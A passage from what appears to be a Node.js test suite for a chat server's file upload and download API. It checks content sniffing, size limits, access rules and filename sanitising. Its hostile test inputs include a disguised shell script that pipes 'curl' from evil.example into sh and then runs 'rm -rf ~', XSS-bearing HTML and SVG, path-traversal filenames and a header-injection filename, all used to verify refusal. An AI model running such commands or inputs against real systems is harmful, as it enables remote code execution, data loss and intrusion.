// File sharing (issue 5) over real HTTP and real socket.io clients: uploads of real PNG, JPEG
// and PDF files generated here, byte-exact downloads, type decided by content (a script named
// photo.png is 415), size limit exactly at the byte and enforced while streaming, nothing left
// on disk after any refusal, hostile filenames, malformed multipart bodies (raw TCP), who may
// download, image/file messages delivered live with their file metadata, Range and ETag,
// download headers, the per-user storage quota and the upload rate limit.
import { test, before, after, afterEach } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import {
    startServer, mkDataDir, tokenFor, newUserId, connectUser, emitAck, api, assertApiError,
    assertRefused, assertMessage, assertObjectId, waitFor, sleep, closeAll, clients,
} from './chat_helpers.mjs';
import { connectTcp, recorder, readHttpResponses, parseHttpResponses } from './helpers.mjs';

// ---------------------------------------------------------------- real files, made here

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
});
function crc32(buf) {
    let c = 0xffffffff;
    for (const b of buf) c = CRC_TABLE[(c ^ b) & 0xff] ^ (c >>> 8);
    return (c ^ 0xffffffff) >>> 0;
}
function pngChunk(type, data) {
    const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(td));
    return Buffer.concat([len, td, crc]);
}
// A valid w x h 8-bit RGB PNG whose pixels depend on seed; padTo: exact size in bytes, reached
// with a tEXt chunk before IEND (still a valid PNG).
function makePng({ w = 4, h = 3, seed = 1, padTo } = {}) {
    const ihdr = Buffer.alloc(13);
    ihdr.writeUInt32BE(w, 0);
    ihdr.writeUInt32BE(h, 4);
    ihdr[8] = 8; // bit depth
    ihdr[9] = 2; // truecolour
    const raw = Buffer.alloc(h * (1 + 3 * w)); // filter byte 0 + RGB per row
    for (let y = 0; y < h; y++) {
        for (let i = 0; i < 3 * w; i++) raw[y * (1 + 3 * w) + 1 + i] = (seed * 31 + y * 7 + i * 13) & 0xff;
    }
    const head = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
        pngChunk('IHDR', ihdr), pngChunk('IDAT', zlib.deflateSync(raw))]);
    const end = pngChunk('IEND', Buffer.alloc(0));
    if (padTo === undefined) return Buffer.concat([head, end]);
    const k = padTo - head.length - end.length - 12 - 8;
    if (k < 0) throw new Error(`cannot pad a PNG to ${padTo}`);
    const text = Buffer.concat([Buffer.from('Comment\0', 'latin1'), Buffer.alloc(k, 0x61 + (seed % 26))]);
    const png = Buffer.concat([head, pngChunk('tEXt', text), end]);
    assert.equal(png.length, padTo);
    return png;
}
// A baseline 8x8 greyscale JFIF: one quantization table, one-code DC and AC Huffman tables, and
// one block coded as "DC difference 0, EOB" (bits 00, padded with ones).
function makeJpeg() {
    const seg = (marker, body) => {
        const b = Buffer.from(body);
        return Buffer.concat([Buffer.from([0xff, marker, (b.length + 2) >> 8, (b.length + 2) & 0xff]), b]);
    };
    const huff = (cls) => [cls, 1, ...Array(15).fill(0), 0x00];
    return Buffer.concat([
        Buffer.from([0xff, 0xd8]), // SOI
        seg(0xe0, [...Buffer.from('JFIF\0', 'latin1'), 1, 1, 0, 0, 1, 0, 1, 0, 0]), // APP0
        seg(0xdb, [0, ...Array(64).fill(1)]), // DQT
        seg(0xc0, [8, 0, 8, 0, 8, 1, 1, 0x11, 0]), // SOF0: 8x8, 1 component
        seg(0xc4, huff(0x00)), // DHT DC 0
        seg(0xc4, huff(0x10)), // DHT AC 0
        seg(0xda, [1, 1, 0x00, 0, 63, 0]), // SOS
        Buffer.from([0x3f, 0xff, 0xd9]), // entropy-coded block, EOI
    ]);
}
// A one-page PDF 1.4 with a correct xref table; padTo: exact size, reached inside the content
// stream (a PostScript comment line).
function makePdf({ padTo, tag = 'lease' } = {}) {
    const build = (padLen) => {
        const stream = `0 0 m 200 200 l S\n% ${tag}\n${'%'.repeat(padLen)}\n`;
        const objs = [
            '<< /Type /Catalog /Pages 2 0 R >>',
            '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
            '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>',
            `<< /Length ${Buffer.byteLength(stream)} >>\nstream\n${stream}endstream`,
        ];
        let out = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
        const offs = [];
        objs.forEach((o, i) => {
            offs.push(Buffer.byteLength(out, 'latin1'));
            out += `${i + 1} 0 obj\n${o}\nendobj\n`;
        });
        const xref = Buffer.byteLength(out, 'latin1');
        out += `xref\n0 ${objs.length + 1}\n0000000000 65535 f \n`;
        for (const o of offs) out += `${String(o).padStart(10, '0')} 00000 n \n`;
        out += `trailer\n<< /Size ${objs.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
        return Buffer.from(out, 'latin1');
    };
    if (padTo === undefined) return build(0);
    // /Length and the offsets gain a digit now and then: search for the exact padding.
    for (let p = Math.max(0, padTo - build(0).length - 8); p <= padTo; p++) {
        const b = build(p);
        if (b.length === padTo) return b;
        if (b.length > padTo) break;
    }
    throw new Error(`cannot pad a PDF to ${padTo}`);
}
// Plain text of exactly n bytes, different for every tag.
function makeText(n, tag = randomBytes(4).toString('hex')) {
    const line = `Receipt ${tag}: boiler repair with 1 hour of labour and parts.\n`;
    return Buffer.from(line.repeat(Math.ceil(n / line.length)).slice(0, n - 1) + '\n');
}

const PNG = makePng({ w: 5, h: 4, seed: 7 });
const JPEG = makeJpeg();
const PDF = makePdf({ padTo: 5000 });
const SCRIPT = Buffer.from('#!/bin/sh\ncurl -s http://evil.example/x | sh\nrm -rf ~\n');

// ---------------------------------------------------------------- HTTP helpers

// POST /api/chat/files the way a browser does (FormData); the Blob's type is the client's
// Content-Type claim, which the server must ignore. Resolves {status, headers, text, json}.
async function upload(srv, token, bytes, filename = 'file.bin', type = 'application/octet-stream') {
    const fd = new FormData();
    fd.append('file', new Blob([bytes], { type }), filename);
    const headers = token === undefined ? {} : { authorization: `Bearer ${token}` };
    const res = await fetch(`${srv.url}/api/chat/files`, {
        method: 'POST', headers, body: fd, signal: AbortSignal.timeout(20000),
    });
    const text = await res.text();
    let json;
    try {
        json = JSON.parse(text);
    } catch {
        json = undefined;
    }
    return { status: res.status, headers: res.headers, text, json };
}

// GET (or HEAD) a file: {status, headers, body: Buffer, json}.
async function download(srv, token, idOrUrl, headers = {}, method = 'GET') {
    const h = { ...headers };
    if (token !== undefined) h.authorization = `Bearer ${token}`;
    const url = idOrUrl.startsWith('/') ? idOrUrl : `/api/chat/files/${idOrUrl}`;
    const res = await fetch(srv.url + url, { method, headers: h, signal: AbortSignal.timeout(20000) });
    const body = Buffer.from(await res.arrayBuffer());
    let json;
    try {
        json = JSON.parse(body.toString('utf8'));
    } catch {
        json = undefined;
    }
    return { status: res.status, headers: res.headers, body, text: body.toString('utf8'), json };
}

// The 201 answer of an upload: {file: {id, name, size, mime, url}} with exactly those keys.
function assertUploaded(res, { size, mime, name }, what) {
    const ctx = `${what}: ${res.status} ${res.text.slice(0, 300)}`;
    assert.equal(res.status, 201, ctx);
    assert.match(res.headers.get('content-type') || '', /^application\/json/, ctx);
    assert.deepEqual(Object.keys(res.json), ['file'], ctx);
    const f = res.json.file;
    assert.deepEqual(Object.keys(f).sort(), ['id', 'mime', 'name', 'size', 'url'], ctx);
    assertObjectId(f.id, `${what}: file.id`);
    assert.equal(f.url, `/api/chat/files/${f.id}`, ctx);
    assert.equal(f.size, size, `${what}: size`);
    assert.equal(f.mime, mime, `${what}: mime`);
    if (name !== undefined) assert.equal(f.name, name, `${what}: name`);
    assert.equal(typeof f.name, 'string', ctx);
    return f;
}

// One raw HTTP/1.1 request over TCP (for bodies fetch will not send); resolves the first response.
async function rawRequest(srv, { method = 'POST', target = '/api/chat/files', headers = {}, body = Buffer.alloc(0) }) {
    const sock = await connectTcp(srv.port);
    const rec = recorder(sock);
    try {
        const lines = [`${method} ${target} HTTP/1.1`, `Host: 127.0.0.1:${srv.port}`];
        for (const [k, v] of Object.entries(headers)) if (v !== null) lines.push(`${k}: ${v}`);
        if (!Object.keys(headers).some((k) => k.toLowerCase() === 'content-length')) {
            lines.push(`Content-Length: ${body.length}`);
        }
        sock.write(Buffer.concat([Buffer.from(lines.join('\r\n') + '\r\n\r\n', 'latin1'), Buffer.from(body)]));
        const [r] = await readHttpResponses(rec, 1, 10000);
        const text = r.body.toString('utf8');
        let json;
        try {
            json = JSON.parse(text);
        } catch {
            json = undefined;
        }
        // the shape assertApiError expects
        return { status: r.status, headers: new Headers(r.headers), text, json, body: r.body };
    } finally {
        sock.destroy();
    }
}

// A multipart/form-data body written by hand. parts: {name, filename, filenameStar, headers
// (raw header lines replacing the generated ones), type, data}.
function multipart(boundary, parts, { close = true, eol = '\r\n' } = {}) {
    const out = [];
    for (const p of parts) {
        let hdrs = p.headers;
        if (!hdrs) {
            let cd = `Content-Disposition: form-data; name="${p.name ?? 'file'}"`;
            if (p.filename !== undefined) cd += `; filename="${p.filename}"`;
            if (p.filenameStar !== undefined) cd += `; filename*=UTF-8''${p.filenameStar}`;
            hdrs = [cd, `Content-Type: ${p.type ?? 'application/octet-stream'}`];
        }
        out.push(Buffer.from(`--${boundary}${eol}${hdrs.map((h) => h + eol).join('')}${eol}`, 'latin1'));
        out.push(Buffer.from(p.data ?? ''));
        out.push(Buffer.from(eol, 'latin1'));
    }
    if (close) out.push(Buffer.from(`--${boundary}--${eol}`, 'latin1'));
    return Buffer.concat(out);
}

// ---------------------------------------------------------------- disk helpers

function walk(dir, rel = '') {
    const out = [];
    for (const e of readdirSync(path.join(dir, rel), { withFileTypes: true })) {
        const r = rel ? `${rel}/${e.name}` : e.name;
        if (e.isDirectory()) out.push(`${r}/`, ...walk(dir, r));
        else out.push(r);
    }
    return out.sort();
}
// Stored uploads (files/<2 hex>/<id>) and temporaries (files/tmp/*) of a server.
function disk(srv) {
    const files = walk(path.join(srv.dataDir, 'files'));
    return {
        stored: files.filter((f) => !f.startsWith('tmp/') && !f.endsWith('/')),
        tmp: files.filter((f) => f.startsWith('tmp/') && f !== 'tmp/'),
    };
}
function storedPath(srv, id) {
    return path.join(srv.dataDir, 'files', id.slice(-2), id);
}
// Every file under <data>/files is a stored upload named by its id, or a temporary.
function assertLayout(srv, what) {
    for (const f of walk(path.join(srv.dataDir, 'files'))) {
        if (f === 'tmp/' || f.startsWith('tmp/')) continue;
        assert.match(f, /^(?:[0-9a-f]{2}\/|([0-9a-f]{2})\/[0-9a-f]{22}\1)$/, `${what}: unexpected entry files/${f}`);
    }
}
// A refusal kept nothing: the same stored files as before, and no temporary left.
function assertNothingKept(srv, before, what) {
    const now = disk(srv);
    assert.deepEqual(now.stored, before.stored, `${what}: stored files changed`);
    assert.deepEqual(now.tmp, [], `${what}: temporaries left in files/tmp`);
}

// ---------------------------------------------------------------- servers and users

let main; // default limits except the upload rate (tests here upload far more than 30/min)
let base; // main's data directory is base/deep/er/data, so escapes are visible under base
let servers = [];
before(async () => {
    base = mkDataDir();
    const dataDir = path.join(base, 'deep', 'er', 'data');
    mkdirSync(dataDir, { recursive: true });
    main = await startServer({ dataDir, args: ['--rate-uploads-per-min', '0'] });
});
afterEach(async () => {
    await closeAll(clients.splice(0));
    for (const s of servers) await s.stop();
    servers = [];
});
after(async () => {
    if (main) await main.stop();
});
async function serve(args, opts = {}) {
    const s = await startServer({ args, ...opts });
    servers.push(s);
    return s;
}
function person(srv) {
    const id = newUserId();
    return { id, token: tokenFor(srv, id) };
}
async function sendRest(srv, from, body) {
    return api(srv, 'POST', '/api/chat/messages', { token: from.token, body });
}

// ---------------------------------------------------------------- uploads

test('PNG, JPEG and PDF: 201 with the type sniffed from the content, stored under the id, downloaded byte-exact', async () => {
    const A = person(main);
    const cases = [
        { bytes: PNG, name: 'boiler.png', claim: 'application/octet-stream', mime: 'image/png' },
        { bytes: JPEG, name: 'leak under the sink.jpg', claim: 'text/plain', mime: 'image/jpeg' },
        { bytes: PDF, name: 'signed lease.pdf', claim: 'image/png', mime: 'application/pdf' },
        // the name and the client's type both say PDF; the content says PNG
        { bytes: makePng({ seed: 2 }), name: 'scan.pdf', claim: 'application/pdf', mime: 'image/png' },
        { bytes: makeText(300), name: 'notes.txt', claim: 'text/plain', mime: 'text/plain' },
        // a browser sends a non-ASCII name as raw UTF-8: it is kept as is
        { bytes: makePdf({ tag: 'receipt' }), name: 'квитанция №5 – März.pdf', claim: 'application/pdf', mime: 'application/pdf' },
    ];
    for (const c of cases) {
        const before0 = disk(main);
        const f = assertUploaded(await upload(main, A.token, c.bytes, c.name, c.claim),
                                 { size: c.bytes.length, mime: c.mime, name: c.name }, c.name);
        // stored once, under a path made of the id only, with the exact bytes
        const now = disk(main);
        assert.deepEqual(now.stored, [...before0.stored, `${f.id.slice(-2)}/${f.id}`].sort(), `${c.name}: stored files`);
        assert.deepEqual(now.tmp, [], `${c.name}: temporaries left`);
        assert.ok(readFileSync(storedPath(main, f.id)).equals(c.bytes), `${c.name}: stored bytes differ`);
        const mode = statSync(storedPath(main, f.id)).mode & 0o777;
        assert.equal(mode & 0o077, 0, `${c.name}: stored with mode ${mode.toString(8)}, readable by others`);
        const d = await download(main, A.token, f.url);
        assert.equal(d.status, 200, `${c.name}: download ${d.status} ${d.text.slice(0, 200)}`);
        assert.equal(d.headers.get('content-type')?.split(';')[0].trim(), c.mime, `${c.name}: content-type`);
        assert.equal(d.headers.get('content-length'), String(c.bytes.length), `${c.name}: content-length`);
        assert.ok(d.body.equals(c.bytes), `${c.name}: downloaded ${d.body.length} bytes differ from the ${c.bytes.length} uploaded`);
        const star = /filename\*=UTF-8''([^;\s]+)/i.exec(d.headers.get('content-disposition') || '');
        assert.ok(star && decodeURIComponent(star[1]) === c.name,
                  `${c.name}: Content-Disposition ${d.headers.get('content-disposition')} does not carry the exact name`);
    }
    assertLayout(main, 'after uploads');
});

test('a script disguised as photo.png (and HTML, SVG, ELF, zip in disguise) is refused with 415, nothing kept', async () => {
    const A = person(main);
    const elf = readFileSync(process.execPath).subarray(0, 4096);
    const zip = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);
    const cases = [
        { bytes: SCRIPT, name: 'photo.png', claim: 'image/png' },
        { bytes: Buffer.from('#!/usr/bin/env python3\nimport os\nos.system("id")\n'), name: 'receipt.pdf', claim: 'application/pdf' },
        { bytes: Buffer.from('<!DOCTYPE html><html><body><script>fetch("/api/chat/conversations")</script></body></html>\n'), name: 'photo.jpg', claim: 'image/jpeg' },
        { bytes: Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>\n'), name: 'logo.png', claim: 'image/png' },
        { bytes: elf, name: 'lease.pdf', claim: 'application/pdf' },
        { bytes: zip, name: 'invoice.docx', claim: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' },
    ];
    for (const c of cases) {
        const before0 = disk(main);
        const r = await upload(main, A.token, c.bytes, c.name, c.claim);
        assertApiError(r, 415, 'UNSUPPORTED_MEDIA_TYPE', `${c.name} (${c.bytes.subarray(0, 12).toString('latin1')}...)`);
        assertNothingKept(main, before0, c.name);
    }
    // the same request with harmless content passes: the refusals above were about the content
    assertUploaded(await upload(main, A.token, makeText(80), 'photo.png', 'image/png'),
                   { size: 80, mime: 'text/plain', name: 'photo.png' }, 'text named photo.png');
});

test('filenames with ../, %2e%2e%2f, NUL, backslashes, controls and 500 characters are kept only as safe metadata', async () => {
    const A = person(main);
    const tag = randomBytes(4).toString('hex');
    const evil = `evil-${tag}`;
    const B = 'fnBoundary' + tag;
    const cases = [
        { filename: `../../../../../../tmp/${evil}.png`, keep: evil },
        { filename: `../${evil}.png`, keep: evil },
        { filename: `%2e%2e%2f%2e%2e%2f${evil}.png`, keep: evil },
        { filenameStar: `%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f${evil}.png`, keep: evil },
        { filenameStar: `..%2F..%2F..%2F..%2F..%2Ftmp%2F${evil}.png`, keep: evil },
        { filenameStar: `${evil}%00.png`, keep: evil },
        { filenameStar: `%00%00..%2F${evil}%00%2F..%2F.png`, keep: null },
        { filename: `..\\..\\..\\..\\Windows\\${evil}.png`, keep: evil },
        { filename: `C:\\Users\\me\\${evil}.png`, keep: evil },
        { filenameStar: `a%0D%0AX-Injected%3A%201%0D%0A%1B%5B31m${evil}%7F.png`, keep: evil },
        { filenameStar: `%E2%80%AEgnp.${evil}.exe`, keep: evil }, // RIGHT-TO-LEFT OVERRIDE
        { filename: '..', keep: null },
        { filename: '../', keep: null },
        { filename: '....//....//', keep: null },
        { filename: `${'a'.repeat(496)}.png`, keep: 'aaaa', long: true },
        { filenameStar: `${'%C3%A9'.repeat(248)}.png`, keep: 'é', long: true }, // 500 characters, 500 bytes
        { filename: `${evil}${'x'.repeat(600)}/${'y'.repeat(10)}`, keep: 'yyyy' },
    ];
    const seen = [];
    for (const [i, c] of cases.entries()) {
        const what = `case ${i} ${JSON.stringify(c.filename ?? c.filenameStar).slice(0, 80)}`;
        const bytes = makePng({ seed: 100 + i });
        const body = multipart(B, [{ filename: c.filename, filenameStar: c.filenameStar, type: 'image/png', data: bytes }]);
        const r = await rawRequest(main, {
            headers: { Authorization: `Bearer ${A.token}`, 'Content-Type': `multipart/form-data; boundary=${B}` }, body,
        });
        const f = assertUploaded(r, { size: bytes.length, mime: 'image/png' }, what);
        const name = f.name;
        assert.ok(name.length > 0, `${what}: empty name`);
        assert.ok(!name.includes('/') && !name.includes('\\'), `${what}: path separator in ${JSON.stringify(name)}`);
        assert.ok(!name.includes('..'), `${what}: '..' in ${JSON.stringify(name)}`);
        assert.ok(!/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200b-\u200f\ufeff]/.test(name),
                  `${what}: control or format character in ${JSON.stringify(name)}`);
        assert.ok(!name.includes('\ufffd'), `${what}: a character was cut or mangled: ${JSON.stringify(name)}`);
        assert.ok(Buffer.byteLength(name) <= 255, `${what}: name of ${Buffer.byteLength(name)} bytes`);
        if (c.keep) assert.ok(name.includes(c.keep), `${what}: the useful part ${c.keep} is lost: ${JSON.stringify(name)}`);
        if (c.long) {
            assert.ok(Buffer.byteLength(name) >= 32, `${what}: a long name cut to nothing: ${JSON.stringify(name)}`);
            assert.ok(name.endsWith('.png'), `${what}: the extension is lost: ${JSON.stringify(name.slice(-20))}`);
        }
        // the download names it safely too, and serves the same bytes
        const d = await download(main, A.token, f.id);
        assert.equal(d.status, 200, `${what}: download`);
        assert.ok(d.body.equals(bytes), `${what}: bytes`);
        const cd = d.headers.get('content-disposition') || '';
        assert.match(cd, /^inline\b/, `${what}: content-disposition ${cd}`);
        for (const m of cd.matchAll(/filename\*?=("(?:[^"\\]|\\.)*"|[^;]*)/g)) {
            const v = m[1].startsWith('"') ? m[1].slice(1, -1) : decodeURIComponent(m[1].replace(/^UTF-8''/i, ''));
            assert.ok(!/[/\\\u0000-\u001f]/.test(v) && !v.includes('..'), `${what}: unsafe filename in ${cd}`);
        }
        assert.ok(!/X-Injected/i.test([...d.headers.keys()].join(',')), `${what}: header injection`);
        seen.push(f.id);
    }
    // nothing anywhere but the data directory's own files and files/<2 hex>/<id>
    assertLayout(main, 'after hostile names');
    const baseEntries = walk(base);
    const allowed = /^deep\/(?:er\/(?:data\/(?:files\/.*|parlor\.[a-z-]+|jwt-secret)?)?)?$/;
    for (const e of baseEntries) assert.match(e, allowed, `unexpected file outside <data>/files: ${e}`);
    assert.deepEqual(baseEntries.filter((e) => e.includes(tag)), [], `a file is named after the client's name`);
    for (const dir of [os.tmpdir(), '/tmp', '/', process.cwd(), path.dirname(main.dataDir)]) {
        const hits = readdirSync(dir).filter((n) => n.includes(tag));
        assert.deepEqual(hits, [], `files escaped into ${dir}`);
    }
    for (const id of seen) assert.ok(existsSync(storedPath(main, id)), `files/${id.slice(-2)}/${id} missing`);
});

test('malformed multipart bodies (no boundary, truncated, two file parts, ...) are refused with 400, nothing kept', async () => {
    const A = person(main);
    const B = '----parlorTestBoundary7MA4YWxk';
    const auth = { Authorization: `Bearer ${A.token}` };
    const ct = `multipart/form-data; boundary=${B}`;
    const good = multipart(B, [{ name: 'note', data: 'the boiler again' }, { filename: 'boiler.png', data: PNG, type: 'image/png' }]);
    // the hand-written body is valid: without a defect it is accepted
    assertUploaded(await rawRequest(main, { headers: { ...auth, 'Content-Type': ct }, body: good }),
                   { size: PNG.length, mime: 'image/png', name: 'boiler.png' }, 'valid raw body');
    const full = multipart(B, [{ filename: 'lease.pdf', data: PDF }]);
    const partHead = Buffer.from(`--${B}\r\nContent-Disposition: form-data; name="file"; filename="lease.pdf"\r\n\r\n`);
    // and the same body sent with Transfer-Encoding: chunked, in two chunks
    const half = good.length >> 1;
    const chunkedBody = Buffer.concat([Buffer.from(`${half.toString(16)}\r\n`), good.subarray(0, half),
        Buffer.from(`\r\n${(good.length - half).toString(16)}\r\n`), good.subarray(half), Buffer.from('\r\n0\r\n\r\n')]);
    assertUploaded(await rawRequest(main, { headers: { ...auth, 'Content-Type': ct, 'Transfer-Encoding': 'chunked', 'Content-Length': null }, body: chunkedBody }),
                   { size: PNG.length, mime: 'image/png', name: 'boiler.png' }, 'valid raw body, chunked');
    const cases = [
        ['missing boundary', 'multipart/form-data', full],
        ['empty boundary', 'multipart/form-data; boundary=', full],
        ['boundary of 71 characters', `multipart/form-data; boundary=${'b'.repeat(71)}`, multipart('b'.repeat(71), [{ filename: 'x.pdf', data: PDF }])],
        ['the body uses another boundary', `multipart/form-data; boundary=${B}x`, full],
        ['not multipart at all', 'application/pdf', PDF, [400, 415]],
        ['no Content-Type', null, full],
        ['urlencoded form', 'application/x-www-form-urlencoded', Buffer.from('file=%25PDF-1.4'), [400, 415]],
        ['empty body', ct, Buffer.alloc(0)],
        ['truncated part (no close delimiter)', ct, Buffer.concat([partHead, PDF.subarray(0, 2000)])],
        ['truncated inside the close delimiter', ct, full.subarray(0, full.length - 6)],
        ['truncated inside the part headers', ct, Buffer.from(`--${B}\r\nContent-Disposition: form-data; name="fi`)],
        ['two file parts', ct, multipart(B, [{ filename: 'a.pdf', data: PDF }, { filename: 'b.png', data: PNG }])],
        ['two file parts, the second without a filename', ct, multipart(B, [{ filename: 'a.png', data: PNG }, { data: 'x' }])],
        ['no part named file', ct, multipart(B, [{ name: 'document', filename: 'a.pdf', data: PDF }])],
        ['close delimiter only', ct, Buffer.from(`--${B}--\r\n`)],
        ['a part without Content-Disposition', ct, multipart(B, [{ headers: ['Content-Type: application/pdf'], data: PDF }])],
        ['Content-Disposition not form-data', ct, multipart(B, [{ headers: ['Content-Disposition: attachment; name="file"; filename="a.pdf"'], data: PDF }])],
        ['bare LF line breaks', ct, multipart(B, [{ filename: 'a.pdf', data: PDF }], { eol: '\n' })],
        ['junk after the close delimiter', ct, Buffer.concat([full.subarray(0, full.length - 2), Buffer.from('junk\r\n')])],
        ['filename* in another charset', ct, multipart(B, [{ headers: [`Content-Disposition: form-data; name="file"; filename*=ISO-8859-1''a%E9.pdf`], data: PDF }])],
    ];
    for (const [what, type, body, status = 400] of cases) {
        const before0 = disk(main);
        const headers = { ...auth };
        if (type !== null) headers['Content-Type'] = type;
        const r = await rawRequest(main, { headers, body });
        const codes = status === 400 ? 'BAD_REQUEST' : ['BAD_REQUEST', 'UNSUPPORTED_MEDIA_TYPE'];
        assertApiError(r, status, codes, what);
        assertNothingKept(main, before0, what);
    }
    main.assertAlive();
});

test('uploads and downloads need a token (401); GET /api/chat/files is 405; bad ids are 400', async () => {
    const A = person(main);
    const before0 = disk(main);
    assertApiError(await upload(main, undefined, PNG, 'a.png'), 401, 'UNAUTHORIZED', 'upload without a token');
    assertApiError(await upload(main, 'not.a.jwt', PNG, 'a.png'), 401, 'UNAUTHORIZED', 'upload with a bad token');
    assertApiError(await upload(main, tokenFor(main, A.id, { exp: Math.floor(Date.now() / 1000) - 60 }), PNG, 'a.png'),
                   401, 'UNAUTHORIZED', 'upload with an expired token');
    assertNothingKept(main, before0, 'unauthenticated uploads');
    const f = assertUploaded(await upload(main, A.token, PNG, 'a.png'), { size: PNG.length, mime: 'image/png' }, 'upload');
    assertApiError(await download(main, undefined, f.id), 401, 'UNAUTHORIZED', 'download without a token');
    assertApiError(await download(main, 'x.y.z', f.id), 401, 'UNAUTHORIZED', 'download with a bad token');
    const r = await api(main, 'GET', '/api/chat/files', { token: A.token });
    assert.equal(r.status, 405, `GET /api/chat/files: ${r.status} ${r.text.slice(0, 200)}`);
    assertApiError(await download(main, A.token, 'not-an-id'), 400, 'BAD_REQUEST', 'download of a malformed id');
    assertApiError(await download(main, A.token, `${f.id}/x`), [400, 404], ['BAD_REQUEST', 'NOT_FOUND'], 'id/x');
    assertApiError(await download(main, A.token, '..%2f..%2fparlor.db'), [400, 404], ['BAD_REQUEST', 'NOT_FOUND'], 'traversal in the id');
});

test('a client that leaves mid-upload: the temporary was being written as the body streamed, and is removed', async () => {
    const A = person(main);
    const before0 = disk(main);
    const B = 'leaveBoundary';
    const head = Buffer.from(`--${B}\r\nContent-Disposition: form-data; name="file"; filename="big.pdf"\r\n\r\n`);
    const big = makePdf({ padTo: 200000 });
    const sock = await connectTcp(main.port);
    const rec = recorder(sock);
    sock.write(`POST /api/chat/files HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${A.token}\r\n` +
               `Content-Type: multipart/form-data; boundary=${B}\r\nContent-Length: ${head.length + big.length + B.length + 8}\r\n\r\n`);
    sock.write(Buffer.concat([head, big.subarray(0, 50000)]));
    // streamed to disk as it arrives: the temporary holds (nearly) all that was sent so far
    const tmpDir = path.join(main.dataDir, 'files', 'tmp');
    const tmpSize = () => readdirSync(tmpDir).reduce((n, f) => n + statSync(path.join(tmpDir, f)).size, 0);
    await waitFor(() => tmpSize() >= 49000, 5000, () => `temporary holds ${tmpSize()} of 50000 bytes sent`);
    assert.equal(rec.data.length, 0, `answered before the body ended: ${rec.text().slice(0, 200)}`);
    sock.destroy();
    await waitFor(() => disk(main).tmp.length === 0, 5000, () => `temporaries left: ${disk(main).tmp}`);
    assertNothingKept(main, before0, 'abandoned upload');
    main.assertAlive();
});

// ---------------------------------------------------------------- downloads and messages

test('download: the uploader yes; a stranger and the future recipient 404 like an unknown id; members once the file is sent', async () => {
    const [A, B, C, S] = [person(main), person(main), person(main), person(main)];
    const f = assertUploaded(await upload(main, A.token, PDF, 'lease.pdf'), { size: PDF.length, mime: 'application/pdf' }, 'upload');
    const unknown = await download(main, A.token, 'ffffffffffffffffffffffff');
    assertApiError(unknown, 404, 'NOT_FOUND', 'unknown id');
    for (const [who, u] of [['stranger', S], ['future recipient', B]]) {
        const r = await download(main, u.token, f.id);
        assertApiError(r, 404, 'NOT_FOUND', `${who} before any message`);
        assert.deepEqual(r.json, unknown.json, `${who}: the 404 differs from an unknown id's (leaks existence)`);
        assert.ok(!r.body.includes(PDF.subarray(0, 64)), `${who}: got content`);
        // neither Range nor If-None-Match opens a door
        assertApiError(await download(main, u.token, f.id, { range: 'bytes=0-3' }), 404, 'NOT_FOUND', `${who} with Range`);
        assertApiError(await download(main, u.token, f.id, { 'if-none-match': '*' }), 404, 'NOT_FOUND', `${who} with If-None-Match`);
        const h = await download(main, u.token, f.id, {}, 'HEAD');
        assert.equal(h.status, 404, `${who} HEAD: ${h.status}`);
        assert.equal(h.headers.get('etag'), null, `${who} HEAD: ETag of a file they may not see`);
    }
    assert.equal((await download(main, A.token, f.id)).status, 200, 'uploader');
    // a file message to B: B may download, S still not
    let r = await sendRest(main, A, { recipientId: B.id, type: 'file', fileId: f.id, content: 'signed lease', clientMsgId: 'lease-1' });
    assert.equal(r.status, 201, `file message: ${r.text.slice(0, 300)}`);
    let d = await download(main, B.token, f.id);
    assert.equal(d.status, 200, `recipient: ${d.status} ${d.text.slice(0, 200)}`);
    assert.ok(d.body.equals(PDF), 'recipient bytes');
    assertApiError(await download(main, S.token, f.id), 404, 'NOT_FOUND', 'stranger after the message');
    // a group: every member may download what was sent there, outsiders (B here) may not
    const img = makePng({ seed: 55 });
    const g = assertUploaded(await upload(main, A.token, img, 'group.png'), { size: img.length, mime: 'image/png' }, 'group upload');
    r = await api(main, 'POST', '/api/chat/conversations', { token: A.token, body: { participantIds: [C.id, S.id], title: 'flat 3' } });
    assert.equal(r.status, 201, `group: ${r.text.slice(0, 300)}`);
    const cid = r.json._id;
    assertApiError(await download(main, C.token, g.id), 404, 'NOT_FOUND', 'group member before the message');
    r = await sendRest(main, A, { conversationId: cid, type: 'image', fileId: g.id, content: '' });
    assert.equal(r.status, 201, `image in the group: ${r.text.slice(0, 300)}`);
    for (const u of [C, S]) {
        d = await download(main, u.token, g.id);
        assert.equal(d.status, 200, `group member: ${d.status} ${d.text.slice(0, 200)}`);
        assert.ok(d.body.equals(img), 'group member bytes');
    }
    assertApiError(await download(main, B.token, g.id), 404, 'NOT_FOUND', 'outsider of the group');
    // being able to download does not make it yours to share
    r = await sendRest(main, S, { recipientId: B.id, type: 'image', fileId: g.id, content: '' });
    assertApiError(r, 403, 'FORBIDDEN', 'reshare by a member');
    assertApiError(await download(main, B.token, g.id), 404, 'NOT_FOUND', 'after a refused reshare');
});

test('an image message is delivered live with its file metadata, and the recipient downloads from file.url', async () => {
    const [A, B] = [person(main), person(main)];
    const a = await connectUser(main, A.token);
    const b = await connectUser(main, B.token);
